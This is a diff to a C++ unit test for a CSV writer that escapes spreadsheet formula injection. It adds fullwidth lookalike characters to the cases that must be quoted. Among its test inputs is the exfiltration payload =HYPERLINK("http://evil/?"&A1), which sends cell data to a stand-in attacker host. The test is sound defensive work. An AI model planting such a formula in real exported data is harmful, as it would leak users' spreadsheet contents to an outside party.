@@ -112,9 +112,15 @@ TEST_CASE("CsvReader: after an error the next row can be read") {
 
 TEST_CASE("csvLine: what a spreadsheet would take for a formula has a quote before it, and each cell is read back as it was") {
     CHECK(csvLine({"=1+1", "+2", "-3", "@x", "\tx"}) == "'=1+1,'+2,'-3,'@x,'\tx\r\n");
+    for (const std::string wide : {"\xEF\xBC\x9D", "\xEF\xBC\x8B", "\xEF\xBC\x8D", "\xEF\xBC\xA0"})
+        CHECK(csvLine({wide + "1"}) == "'" + wide + "1\r\n");
     CHECK(csvLine({"a=b", "'s", "''", "1-2", ""}) == "a=b,'s,'',1-2,\r\n");
-    for (const std::string cell :
-         {"=HYPERLINK(\"http://evil/?\"&A1)", "+2", "-2+3", "@SUM(A1)", "'=x", "''=x", "'s", "plain", "'", "'a=b"}) {
+    for (const std::string cell : {"=HYPERLINK(\"http://evil/?\"&A1)", "+2", "-2+3", "@SUM(A1)",
+                                   "\xEF\xBC\x9D"
+                                   "1",
+                                   "'\xEF\xBC\x8B"
+                                   "1",
+                                   "'=x", "''=x", "'s", "plain", "'", "'a=b"}) {
         CAPTURE(cell);
         CsvReader table = reader("seats,room\r\n" + csvLine({"1", cell}));
         REQUIRE(table.next());
